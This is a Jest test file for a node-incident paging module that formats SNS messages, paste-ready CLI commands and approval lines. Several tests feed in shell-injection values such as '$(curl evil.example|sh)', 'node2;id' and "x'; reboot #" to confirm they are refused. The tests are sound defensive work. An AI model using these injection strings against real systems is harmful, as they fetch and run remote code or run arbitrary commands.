import type { PublishCommandInput, SNSClient } from '@aws-sdk/client-sns';
import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import {
  answersToFleet,
  answersToHeal,
  keyOf,
  type Page,
  page,
  pageAgain,
  pageResolved,
  tell,
} from '../../../shared/heal/notify.ts';
import { anyText } from '../../fixtures/any.ts';

const TOPIC = 'arn:aws:sns:eu-west-1:111122223333:chainmend-pages';
const CONTENT: Page = {
  ...{ fleet: 'bitcoin', node: 'node2', code: 'size-ceiling', sentence: 'data volume 91 % of 2000 GiB' },
  ...{ incidentId: '7f3a0c1d', attempt: 1, trigger: 'disk:data' },
};
const MACHINES = ['lambda', 'sqs', 'http', 'firehose', 'email-json'];
/** What every machine gets besides. */
const MORE = {
  ...{ wants: 'free space, or raise the size limit', urgency: 'now', runbook: 'docs/runbooks/disk.md' },
  ...{ account: '111122223333', region: 'eu-west-1', key: 'bitcoin/node2/disk:data', at: expect.any(String) },
  ...{ severity: 'page', means: 'The fleet file’s ceiling for a volume’s size is reached.' },
  next: {
    why: 'npm run chainmend -- explain 7f3a0c1d',
    state: 'npm run chainmend -- status bitcoin',
    seen: 'npm run chainmend -- ack bitcoin/node2/disk:data',
    stop: 'npm run chainmend -- pause bitcoin --why "…"',
    runbook: 'docs/runbooks/disk.md',
  },
};

/** The single call of a page. */
const published = (content: Parameters<typeof page>[2], answers?: string): Promise<PublishCommandInput> =>
  sent((sns) => page(sns, TOPIC, content, answers));

async function sent(send: (sns: SNSClient) => Promise<void>): Promise<PublishCommandInput> {
  const inputs: PublishCommandInput[] = [];
  const sns = { send: async ({ input }: { input: PublishCommandInput }) => void inputs.push(input) };
  await send(sns as unknown as SNSClient);
  const [only, another] = inputs;
  if (!only || another) throw new Error(`${inputs.length} calls of Publish, expected one`);
  return only;
}

const copies = ({ Message = '' }: PublishCommandInput) => JSON.parse(Message) as Record<string, string>;

describe('a page', () => {
  it('says in its subject whom it is about and what is wanted, and the rest as a text that a person can read', async () => {
    const input = await published(CONTENT);
    const subject = 'chainmend bitcoin/node2: free space, or raise the size limit (size-ceiling)';
    expect(input).toMatchObject({ Subject: subject, TopicArn: TOPIC, MessageStructure: 'json' });
    expect(copies(input)['default']?.replace(/\d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC/, 'NOW')).toBe(`\
bitcoin/node2: free space, or raise the size limit

what     data volume 91 % of 2000 GiB
means    size-ceiling: The fleet file’s ceiling for a volume’s size is reached.
wanted   act now: it stays as it is, or gets worse, until a person acts

why      npm run chainmend -- explain 7f3a0c1d
state    npm run chainmend -- status bitcoin
seen     npm run chainmend -- ack bitcoin/node2/disk:data
stop     npm run chainmend -- pause bitcoin --why "…"
runbook  docs/runbooks/disk.md

account 111122223333, eu-west-1 · NOW · incident 7f3a0c1d, disk:data, 1`);
    // Email and all other subscriptions get the default.
    expect(Object.keys(copies(input)).sort()).toEqual(['default', 'sms', 'https', ...MACHINES].sort());
    expect(copies(input)['sms']).toBe(subject);
  });

  it('of a suite with a name says whose it is, in its subject and in each line to paste', async () => {
    const topic = 'arn:aws:sns:eu-west-1:111122223333:payments-chainmend-pages';
    const input = await sent((sns) => page(sns, topic, { ...CONTENT, sentence: 'say so: npm run deploy, or wait' }));
    const { default: mail = '', sqs = '', https = '' } = copies(input);
    expect(input.Subject).toMatch(/^payments-chainmend bitcoin\/node2: /);
    expect(mail).toContain('\nwhy      npm run chainmend -- --name payments explain 7f3a0c1d\n');
    expect(mail).toContain('say so: npm run deploy -- -c name=payments, or wait');
    for (const copy of [mail, sqs, https]) expect(copy).not.toMatch(/npm run chainmend -- (?!--name payments )/);
    expect(JSON.parse(sqs).next.state).toBe('npm run chainmend -- --name payments status bitcoin');
  });

  it('says how to undo it where a heal may have put something away', async () => {
    const { default: mail = '' } = copies(
      await published({ ...CONTENT, code: 'ladder-spent', trigger: 'node:health' }),
    );
    expect(mail).toContain('\nundo     npm run chainmend -- undo bitcoin/node2\n');
  });

  it('offers no undo once more to whoever was refused one for good', async () => {
    for (const [code, offers] of [
      ['nothing-to-undo', false],
      ['replacements-spent', true],
    ] as const) {
      const { default: mail = '' } = copies(await published({ ...CONTENT, code, trigger: 'request:undo' }));
      expect(mail.includes('chainmend -- undo')).toBe(offers);
    }
  });

  it.each(['fleet', '3 nodes', 'node 2', '$(curl evil.example|sh)', 'node2;id'])(
    'says no command to undo what is done to %s: that is no word for one node, or no word for a shell',
    async (node) => {
      const told = copies(await published({ ...CONTENT, node, code: 'ladder-spent', trigger: 'node:health' }));
      for (const copy of Object.values(told)) expect(copy).not.toContain('chainmend -- undo');
    },
  );

  it('leads to the runbook of its code, or else to the one that its sender names', async () => {
    const runbook = 'docs/runbooks/halted.md';
    const { default: mail = '', sqs = '' } = copies(await published({ ...CONTENT, code: 'cannot-ask', runbook }));
    expect(mail).toContain(`\nrunbook  ${runbook}\n`);
    expect(JSON.parse(sqs)).toMatchObject({ runbook });
    const other = copies(await published({ ...CONTENT, runbook }))['default'];
    expect(other).toContain('\nrunbook  docs/runbooks/disk.md\n');
  });

  it('is JSON for machines, with every field', async () => {
    const all = copies(await published({ ...CONTENT, instances: ['i-1'] }));
    for (const protocol of MACHINES)
      expect(JSON.parse(all[protocol] ?? '')).toEqual({ ...CONTENT, ...MORE, instances: ['i-1'] });
  });

  it('is what Amazon Q shows in Slack and Teams where HTTPS is subscribed, one thread for each cause', async () => {
    const { https = '' } = copies(await published({ ...CONTENT, instances: ['i-1'] }));
    expect(JSON.parse(https)).toMatchObject({
      ...{ version: '1.0', source: 'custom' },
      content: {
        textType: 'client-markdown',
        title: 'bitcoin/node2: free space, or raise the size limit',
        description: expect.stringMatching(/^data volume 91 % of 2000 GiB\n\n_The fleet file’s ceiling/),
        nextSteps: expect.arrayContaining(['why: npm run chainmend -- explain 7f3a0c1d']),
      },
      metadata: {
        threadId: 'bitcoin/node2/disk:data',
        eventType: 'size-ceiling',
        additionalContext: { attempt: '1', instances: '["i-1"]' },
      },
    });
  });

  it('shows what can be pasted as it is: no quote is escaped, and each command is a line of its own', async () => {
    const { text, approve, refuse = '' } = answersToHeal(QUESTION, 'eu-west-1');
    const { default: mail = '' } = copies(await published({ ...CONTENT, code: 'approval-wanted' }, text));
    const lines = mail.split('\n');
    for (const command of [approve, refuse]) expect(lines.filter((line) => line === command)).toHaveLength(1);
  });

  it('that asks for an answer tells machines the commands for it, and the mail does not have them twice', async () => {
    const nextOf = async (content: Page): Promise<Record<string, string>> =>
      JSON.parse(copies(await published(content))['lambda'] ?? '').next;
    const question: Page = { ...CONTENT, code: 'approval-wanted', plan: '0123456789abcdef' };
    expect(await nextOf(question)).toMatchObject({
      approve: 'npm run chainmend -- approve 7f3a0c1d --plan 0123456789abcdef',
      reject: 'npm run chainmend -- reject 7f3a0c1d',
    });
    const { incidentId: _, ...ofFleet } = question;
    expect(await nextOf(ofFleet)).toMatchObject({ approve: 'npm run chainmend -- approve 0123456789abcdef' });
    expect(copies(await published(question))['default']).not.toContain('-- approve');
  });

  it('has a subject that SNS takes, and a text without anything that acts on a terminal, whatever a node is called', async () => {
    await fc.assert(
      fc.asyncProperty(
        anyText({ maxLength: 256, size: 'max' }),
        fc.string({ unit: 'binary', maxLength: 6_000, size: 'max' }),
        async (node, sentence) => {
          const input = await published({ fleet: 'bitcoin', node, code: 'paused', sentence });
          // "… no line breaks or control characters, and less than 100 characters long" (PublishInput, @aws-sdk/client-sns).
          expect(input.Subject).toMatch(/^[\x20-\x7e]{1,99}$/);
          expect(copies(input)['default']?.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Cs}]/u);
        },
      ),
    );
  });

  it('is never longer than SNS takes: what a machine gets besides is left out before that', async () => {
    const much = Array.from({ length: 5_000 }, (_, at) => `"${at}"\u0000`);
    const input = await published({ ...CONTENT, sentence: '"'.repeat(100_000), much });
    expect(Buffer.byteLength(input.Message ?? '')).toBeLessThanOrEqual(262_144);
    const { cut, much: left, sentence = '', fleet } = JSON.parse(copies(input)['sqs'] ?? '');
    expect({ cut, left, fleet, length: sentence.length }).toEqual({ cut: true, fleet: 'bitcoin', length: 4_000 });
  });
});

const QUESTION = { incidentId: '7f3a0c1d', plan: '0123456789abcdef', callbackId: 'Ab+/09==' };

describe('the lines that answer a question', () => {
  it('are right for version 1 and 2 of the AWS CLI: the answer is bytes that are piped in', () => {
    const { approve, refuse, text } = answersToHeal(QUESTION, 'eu-west-1');
    expect(approve).toBe(
      `echo '{"approve":true,"plan":"0123456789abcdef"}' | aws lambda send-durable-execution-callback-success --region eu-west-1 --callback-id 'Ab+/09==' --result fileb:///dev/stdin`,
    );
    expect(refuse).toBe(
      `echo '{"approve":false}' | aws lambda send-durable-execution-callback-success --region eu-west-1 --callback-id 'Ab+/09==' --result fileb:///dev/stdin`,
    );
    const lines = text.split('\n');
    expect(lines.indexOf('npm run chainmend -- approve 7f3a0c1d --plan 0123456789abcdef')).toBeLessThan(
      lines.indexOf(approve),
    );
    expect(lines.indexOf('npm run chainmend -- reject 7f3a0c1d')).toBeLessThan(lines.indexOf(refuse ?? ''));
  });

  it('of a whole fleet invoke the function that has asked', () => {
    const question = { functionName: 'chainmend-rotate-peers', fleet: 'bitcoin', plan: '0123456789ab' };
    const { approve, refuse } = answersToFleet({ ...question, takesLong: true }, undefined);
    expect(approve).toBe(
      `echo '{"kind":"approve","fleet":"bitcoin","plan":"0123456789ab"}' | aws lambda invoke --function-name chainmend-rotate-peers --invocation-type Event --payload fileb:///dev/stdin /dev/stdout`,
    );
    expect(refuse).toBeUndefined();
  });

  it('are never made of an id that a shell could take for something else', () => {
    for (const callbackId of ["x'; reboot #", '', 'a b', '$(id)', 'x'.repeat(1_025)])
      expect(() => answersToHeal({ ...QUESTION, callbackId }, 'eu-west-1')).toThrow('no shell should see');
  });
});

describe('a message that is no page', () => {
  const KEY = 'bitcoin/node2/disk:data';
  const machine = (input: PublishCommandInput) => JSON.parse(copies(input)['lambda'] ?? '') as Record<string, unknown>;
  const severity = ({ MessageAttributes }: PublishCommandInput) => MessageAttributes?.['severity']?.StringValue;

  it('says that it is the same page again, and for the how manieth time', async () => {
    const again = await sent((sns) => pageAgain(sns, TOPIC, { ...CONTENT, key: KEY }, 3));
    expect(again.Subject).toBe(
      'chainmend bitcoin/node2: again (3), free space, or raise the size limit (size-ceiling)',
    );
    expect(copies(again)['default']).toContain(
      'what     Sent again, 3 times by now, and not acknowledged: data volume 91 % of 2000 GiB\n',
    );
    expect(copies(again)['default']).toContain(`\nseen     npm run chainmend -- ack ${KEY}\n`);
    expect(machine(again)).toMatchObject({
      severity: 'again',
      key: KEY,
      urgency: 'now',
      code: 'size-ceiling',
      times: 3,
    });
    expect(severity(again)).toBe('again');
  });

  it('can be acknowledged where it comes again, whoever has sent it first', async () => {
    const { incidentId: _, attempt: __, trigger: ___, ...ofWatch } = CONTENT;
    const again = await sent((sns) => pageAgain(sns, TOPIC, { ...ofWatch, key: KEY }, 2));
    expect(copies(again)['default']).toContain(`\nseen     npm run chainmend -- ack ${KEY}\n`);
  });

  it('ends a page under its own key, wants nothing, and has nothing to acknowledge', async () => {
    const ended = { ...CONTENT, key: KEY, sentence: 'node2 is healed' };
    const resolved = await sent((sns) => pageResolved(sns, TOPIC, ended));
    expect(resolved.Subject).toBe('chainmend bitcoin/node2: resolved (size-ceiling)');
    expect(copies(resolved)['default']).toContain('\nwanted   nothing: it is over\n');
    expect(copies(resolved)['default']).not.toContain('chainmend -- ack');
    expect(machine(resolved)).toMatchObject({ severity: 'resolved', key: KEY, urgency: 'none', code: 'size-ceiling' });
    expect(severity(resolved)).toBe('resolved');
  });

  it('tells of a healed node: what was wrong, what was done, how long it took, and how to hear more', async () => {
    const { code: _, ...about } = CONTENT;
    const healed = {
      ...about,
      sentence: 'filesystem 900 GiB',
      trouble: 'its data volume was filling up',
      seconds: 20.4,
    };
    const told = await sent((sns) => tell(sns, TOPIC, healed as Parameters<typeof tell>[2]));
    expect(told.Subject).toBe('chainmend bitcoin/node2: healed (disk:data)');
    expect(copies(told)['default']).toContain(
      'what     its data volume was filling up. filesystem 900 GiB. From the first sign to the proof: 20 s\n',
    );
    expect(copies(told)['default']).toContain('npm run chainmend -- explain 7f3a0c1d');
    expect(machine(told)).toMatchObject({ severity: 'told', key: KEY, urgency: 'none', code: 'healed', seconds: 20.4 });
    expect(severity(told)).toBe('told');
  });

  it('is told from a page by the attribute of each', async () => {
    expect(severity(await published(CONTENT))).toBe('page');
  });
});

describe('the key of a page', () => {
  it('is one for all pages of an incident', () => {
    for (const code of ['not-proved', 'attempts-spent'])
      expect(keyOf({ ...CONTENT, code })).toBe('bitcoin/node2/disk:data');
  });

  it('is that of the code where it is about several nodes, or a fleet', () => {
    expect(keyOf({ ...CONTENT, node: '3 nodes' })).toBe('bitcoin/nodes/size-ceiling');
    expect(keyOf({ ...CONTENT, node: '4 nodes' })).toBe('bitcoin/nodes/size-ceiling');
    expect(keyOf({ ...CONTENT, node: 'fleet' })).toBe('bitcoin/fleet/size-ceiling');
  });
});
